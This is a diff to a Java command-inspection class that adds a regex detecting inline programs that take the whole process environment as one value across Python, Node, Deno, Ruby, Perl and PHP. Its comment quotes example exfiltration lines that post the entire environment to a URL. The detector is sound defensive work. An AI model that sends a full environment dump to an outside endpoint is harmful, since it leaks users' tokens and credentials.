@@ -549,6 +549,36 @@ final class InlineCode {
         return !p.isEmpty() && PAYLOAD_SECRET.matcher(p).find();
     }
 
+    /**
+     * The whole environment taken as one value, not one variable read by name: Python's
+     * {@code os.environ} (or a bare {@code environ}) not followed by {@code [}, {@code .get},
+     * {@code .setdefault} or {@code .pop} ({@code dict(os.environ)}, {@code {**os.environ}},
+     * {@code os.environ.copy()}); Node's and Bun's {@code process.env}/{@code Bun.env} not followed
+     * by a member ({@code JSON.stringify(process.env)}, {@code {...process.env}}), Deno's
+     * {@code Deno.env.toObject()}; Ruby's {@code ENV} not indexed or fetched ({@code ENV.to_h});
+     * Perl's {@code %ENV}; PHP's {@code $_ENV}/{@code $_SERVER} not indexed and {@code getenv()}.
+     * WHY: {@code requests.post(URL, json=dict(os.environ))} is {@code curl -d "$(env)" URL}; a
+     * variable read by name ({@code os.environ['GITHUB_TOKEN']} sent to its own API) is everyday.
+     */
+    private static final java.util.regex.Pattern PAYLOAD_WHOLE_ENV = java.util.regex.Pattern.compile(
+            "\\benvironb?\\b(?!\\s*(\\[|\\.\\s*(get|setdefault|pop)\\b))"
+            + "|\\b(process|Bun)\\.env\\b(?!\\s*(\\.|\\[|\\?\\.))|\\bDeno\\.env\\.toObject\\b"
+            + "|(?<![$%@\\w'\"])ENV\\b(?!['\"]|\\s*(\\[|\\{|\\.\\s*(fetch|key\\?|has_key\\?|include\\?)))"
+            + "|%ENV\\b|\\$_(ENV|SERVER)\\b(?!\\s*\\[)|\\bgetenv\\s*\\(\\s*\\)");
+
+    /**
+     * A Python import statement, dropped before {@link #PAYLOAD_WHOLE_ENV} is read: importing
+     * {@code environ} takes no value ({@code from os import environ as e; …e["LFILE"]} reads one
+     * variable), while a later use by that name ({@code dict(environ)}) is still read.
+     */
+    private static final java.util.regex.Pattern PY_IMPORT = java.util.regex.Pattern.compile("\\b(from\\s+[\\w.]+\\s+)?import\\s+[^\\n;]*");
+
+    /** True when the inline program takes the whole environment as one value ({@link #PAYLOAD_WHOLE_ENV}). */
+    static boolean isPayloadWholeEnvironment(Cmd c) {
+        String p = c.getPayload();
+        return !p.isEmpty() && PAYLOAD_WHOLE_ENV.matcher(PY_IMPORT.matcher(p).replaceAll("")).find();
+    }
+
     /** True when the inline program names an absolute or home path. */
     static boolean isPayloadAbsolutePath(Cmd c) {
         String p = c.getPayload();
